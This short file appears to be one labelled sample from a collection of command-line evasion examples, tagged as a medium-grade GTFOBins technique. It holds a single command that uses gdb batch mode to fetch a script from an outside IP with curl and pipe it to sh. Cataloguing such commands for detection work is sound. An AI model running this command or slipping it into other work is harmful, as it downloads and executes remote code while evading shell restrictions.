# evasion: gdb batch mode runs a shell command (GTFOBins)
# grade: medium; does: download-exec
gdb -q -nx -batch -ex 'shell curl -s http://203.0.113.5/s | sh'
